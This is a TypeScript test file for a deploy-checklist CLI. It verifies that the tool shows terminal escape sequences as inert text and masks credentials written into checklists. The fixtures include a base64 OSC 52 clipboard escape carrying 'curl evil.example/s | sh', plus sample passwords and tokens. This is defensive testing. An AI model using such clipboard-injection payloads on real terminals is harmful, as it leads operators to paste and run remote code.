/**
 * What `plan` and `validate` show of a checklist's own values: front-matter
 * vars, titles, headings and aliases are shown, never obeyed (an OSC 52 in a var
 * would set the operator's clipboard), and a credential written in the checklist
 * is shown as `***` (with a warning from validate saying where to take it from).
 */
import assert from 'node:assert/strict'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { activeIn } from '../helpers/active.ts'
import { runCli } from '../helpers/cli.ts'

/** OSC 52: "set the clipboard to `curl evil.example/s | sh`", as YAML writes it. */
const CLIPBOARD_YAML = '\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\\a'
const CLIPBOARD_SHOWN = '\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\\x07'

let dir: string
before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'dw-plan-'))
})
after(async () => {
  await rm(dir, { recursive: true, force: true })
})

async function checklist(name: string, markdown: string): Promise<string> {
  const file = join(dir, name)
  await writeFile(file, markdown)
  return file
}

describe('deploy-wizard plan', () => {
  it('shows a clipboard escape in a var, a title or an alias as text, and writes none', async () => {
    const file = await checklist(
      'clipboard.md',
      [
        '---',
        `title: "Release ${CLIPBOARD_YAML}"`,
        'vars:',
        `  note: "${CLIPBOARD_YAML}"`,
        'aliases:',
        `  prod: ["live${CLIPBOARD_YAML}"]`,
        '---',
        '## Deploy',
        '- [ ] Health <!-- check: http url=https://api.example/health?note=${note} -->',
        `### Only on live${CLIPBOARD_YAML.replace('\\e', '\u001b').replace('\\a', '\u0007')}`,
        '- [ ] Announce',
        '## Sign-off',
        `Approved by ${CLIPBOARD_YAML.replace('\\e', '\u001b').replace('\\a', '\u0007')}: ____`,
        '',
      ].join('\n'),
    )
    for (const env of [{ NO_COLOR: '1' }, { NO_COLOR: undefined, FORCE_COLOR: '1' }]) {
      const text = await runCli(['plan', file, '--env', 'dev'], env)
      assert.equal(text.code, 0, text.stderr)
      assert.deepEqual(activeIn(text.stdout, { colours: env.NO_COLOR === undefined }), [])
      assert.ok(text.stdout.includes(`Release ${CLIPBOARD_SHOWN} — plan for dev`), text.stdout)
      assert.ok(text.stdout.includes(`health?note=${CLIPBOARD_SHOWN}`), text.stdout)
      assert.ok(text.stdout.includes(`Only on live${CLIPBOARD_SHOWN}`), text.stdout)
      // The sign-off's labels are the checklist's words too.
      assert.ok(text.stdout.includes(`Approved by ${CLIPBOARD_SHOWN}`), text.stdout)
    }
    const json = await runCli(['plan', file, '--env', 'dev', '--json'])
    assert.deepEqual(activeIn(json.stdout), [])
    const plan = JSON.parse(json.stdout) as {
      title: string
      phases: { items: { check: { params: Record<string, string> } | null }[] }[]
    }
    // The JSON holds the exact data, escaped as JSON escapes it.
    assert.equal(plan.title, 'Release \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\u0007')
  })

  it('masks credentials written in the checklist, in text and in JSON', async () => {
    const file = await checklist(
      'credentials.md',
      [
        '---',
        'vars:',
        '  db: postgres://app:hunter2@db.internal:5432/app',
        '---',
        '## Checks',
        '- [ ] Database <!-- check: pg.connect url=${db} -->',
        '- [ ] API <!-- check: http url=https://deploy:s3cr3t-pw@api.example/health bearer=tok-abc123def request-header="Authorization: Basic ZGVwbG95OnMzY3IzdA==" -->',
        '- [ ] Admin <!-- check: http url=https://api.example/admin?password=letmein99 bearer=${env:ADMIN_TOKEN} -->',
        '- [ ] Tenant <!-- check: http url=https://api.example/me request-header="Authorization: Bearer ${env:TENANT_TOKEN}" -->',
        '- [ ] Secret <!-- check: env name=JWT_SECRET equals=the-real-jwt-secret -->',
        '',
      ].join('\n'),
    )
    const text = await runCli(['plan', file, '--env', 'dev'])
    const json = await runCli(['plan', file, '--env', 'dev', '--json'])
    assert.equal(text.code, 0, text.stderr)
    for (const output of [text.stdout, json.stdout]) {
      assert.doesNotMatch(
        output,
        /hunter2|s3cr3t-pw|tok-abc123def|ZGVwbG95OnMzY3IzdA|letmein99|the-real-jwt-secret/,
      )
    }
    assert.deepEqual(
      text.stdout.split('\n').filter((line) => line.includes('↳')),
      [
        '      ↳ pg.connect url=postgres://app:***@db.internal:5432/app',
        '      ↳ http url=https://deploy:***@api.example/health bearer=*** request-header="Authorization: ***"',
        '      ↳ http url=https://api.example/admin?password=*** bearer=${env:ADMIN_TOKEN}',
        '      ↳ http url=https://api.example/me request-header="Authorization: Bearer ${env:TENANT_TOKEN}"',
        '      ↳ env name=JWT_SECRET equals=***',
      ],
    )
    const params = (
      JSON.parse(json.stdout) as {
        phases: { items: { check: { params: Record<string, string> } }[] }[]
      }
    ).phases[0]?.items.map((item) => item.check.params)
    assert.deepEqual(params?.[1], {
      url: 'https://deploy:***@api.example/health',
      bearer: '***',
      'request-header': 'Authorization: ***',
    })
  })
})

describe('deploy-wizard validate', () => {
  it('warns of a credential written in the checklist, saying where to take it from instead', async () => {
    const file = await checklist(
      'warn.md',
      [
        '---',
        'vars:',
        '  db: postgres://app:hunter2@db.internal/app',
        '---',
        '## Checks',
        '- [ ] API <!-- check: http url=https://api.example/health bearer=tok-abc123def -->',
        '- [ ] From the environment <!-- check: http url=https://u:${env:PW}@api.example bearer=${env:TOKEN:-dev} request-header="X-Tenant-Id: 42" -->',
        '- [ ] A URL for a port <!-- check: tcp host=db port=postgres://app:hunter3@db:5432 -->',
        '',
      ].join('\n'),
    )
    const { code, stdout } = await runCli(['validate', file])
    assert.equal(code, 1, stdout)
    assert.doesNotMatch(stdout, /hunter2|hunter3|tok-abc123def/)
    const problems = stdout.split('\n').filter((line) => /: (warning|error): /.test(line))
    assert.deepEqual(
      problems.map((line) => line.slice(file.length + 1)),
      [
        "3:7: warning: var 'db' holds a credential written in the checklist (everyone who can read the file has it)",
        '6:59: warning: http bearer: a credential written in the checklist (everyone who can read the file has it)',
        '8:48: warning: tcp port: a credential written in the checklist (everyone who can read the file has it)',
        // A value quoted by an error is masked as plan masks it.
        "8:48: error: tcp port='postgres://app:***@db:5432': expected a whole number",
      ],
    )
    assert.match(stdout, /hint: take it from the environment: bearer=\$\{env:API_TOKEN\}/)
  })
})
